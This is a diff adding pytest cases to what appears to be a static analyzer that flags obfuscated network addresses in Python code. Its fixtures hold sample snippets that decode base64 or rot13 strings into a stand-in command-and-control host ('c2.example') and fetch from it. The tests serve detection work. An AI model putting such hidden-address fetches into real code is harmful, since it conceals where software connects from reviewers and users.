@@ -192,3 +192,47 @@ def test_downloaded_code_written_to_an_interpreters_input_is_download_exec(sourc
 )
 def test_downloaded_data_given_to_a_tool_is_not_download_exec(source: str) -> None:
     assert keys(profile(source), "download-exec") == []
+
+
+# --- An address hidden from readers ------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("source", "shown"),
+    [
+        (
+            """\
+            import base64, requests
+            def fetch(name):
+                base = base64.b64decode("aHR0cHM6Ly9jMi5leGFtcGxlL2s=").decode("utf-8")
+                url = f"{base}/{name}.php"
+                return requests.get(url, timeout=3)
+            """,
+            None,
+        ),
+        (
+            """\
+            import codecs, urllib.request
+            URL = codecs.decode("uggcf://p2.rknzcyr/k", "rot13")
+            urllib.request.urlopen(URL)
+            """,
+            "[decoded codecs.decode] https://c2.example/x",
+        ),
+    ],
+)
+def test_connecting_to_an_encoded_address_is_obfuscation(source: str, shown: str | None) -> None:
+    cap = one(profile(source), "obfuscation", "hidden-address")
+    assert cap.severity is Severity.HIGH
+    assert cap.snippet is not None
+    if shown is not None:
+        assert cap.snippet == shown
+
+
+def test_encoded_data_sent_to_a_plain_address_is_no_hidden_address() -> None:
+    source = """\
+        import base64, requests
+        def send(blob, base_url):
+            requests.post("https://api.example/upload", data=base64.b64decode(blob))
+            requests.get(base_url + "/v1", params={"q": base64.b64decode(blob)})
+        """
+    assert keys(profile(source), "obfuscation") == []
